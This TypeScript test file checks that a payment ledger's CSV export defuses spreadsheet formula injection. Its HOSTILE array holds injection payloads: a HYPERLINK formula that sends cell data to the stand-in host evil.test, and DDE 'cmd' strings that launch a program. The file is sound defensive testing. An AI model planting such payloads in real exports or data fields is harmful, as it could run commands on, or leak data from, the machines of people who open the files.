import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { aStripePayment, aStripeRefund, stripeRequest } from "@/dev/testing/builders";
import { fileTenant } from "@/dev/testing/file-tenant";
import { drainAll } from "@/dev/testing/drain";
import { deliver } from "@/dev/testing/route";
import { exportLedger, ledgerCsv } from "@/lib/ledger/export";
import { csvCell } from "@/lib/platform/csv-writer";

// What someone who controls a payment's reference or metadata would send, hoping
// an accountant opens the export in a spreadsheet.
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"Refund")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

const tenant = fileTenant();

describe("the ledger's CSV export", () => {
  it("writes references that start with = + - @ TAB or CR as text, and amounts (negative ones too) as numbers", async () => {
    for (const [i, reference] of HOSTILE.entries()) {
      const res = await deliver(
        stripeRequest(tenant, aStripePayment({ reference, amount: 1000 + i, account: `acct_${i}` })),
      );
      expect(res.status).toBe(200);
    }
    await deliver(stripeRequest(tenant, aStripeRefund({ reference: "=1+1", payment: HOSTILE[0]!, amount: 500 })));
    await drainAll();
    const text = ledgerCsv(await exportLedger(tenant.id, tenant.slug));
    // Read back by an independent RFC 4180 reader, as a spreadsheet would split it.
    const rows: string[][] = parse(text, { relax_column_count: false });
    const [header, ...records] = rows;
    expect(header).toEqual([
      "tenant",
      "kind",
      "provider",
      "reference",
      "occurred_at",
      "reverses",
      "account",
      "currency",
      "amount",
    ]);
    const amount = header!.indexOf("amount");
    for (const record of records) {
      for (const [column, value] of record.entries()) {
        if (column === amount) expect(value).toMatch(/^-?\d+$/);
        else expect(value, `column ${header![column]} of ${JSON.stringify(record)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const references = new Set(records.map((r) => r[header!.indexOf("reference")]));
    for (const reference of [...HOSTILE, "=1+1"]) expect(references).toContain(`'${reference}`);
    // The refund's clearing leg is negative and stays a number a spreadsheet can sum.
    expect(records.some((r) => r[amount] === "-500")).toBe(true);
  });

  it("quotes cells by RFC 4180 and prefixes only text", () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
    expect(csvCell("pi_1")).toBe("pi_1");
    expect(csvCell("a=b-c")).toBe("a=b-c");
    expect(csvCell(null)).toBe("");
    expect(csvCell(-500n)).toBe("-500");
    expect(csvCell("-500")).toBe("'-500");
  });
});
